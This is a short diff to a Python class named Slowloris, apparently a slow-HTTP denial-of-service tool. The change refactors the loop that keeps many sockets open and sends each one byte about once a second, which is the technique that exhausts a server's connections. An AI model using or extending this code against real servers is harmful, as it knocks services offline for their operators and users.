@@ -232,7 +232,7 @@ class Slowloris:
                 selector.register(sock, selectors.EVENT_READ)
             # One byte to each, about once a second; what the server says in between is a cut.
             tick = time.monotonic() + 1.0
-            for fd, (sock, since, payload) in list(live.items()):
+            for sock, since, payload in list(live.values()):
                 offset = int(time.monotonic() - since) % len(payload)
                 try:
                     sock.send(payload[offset : offset + 1])
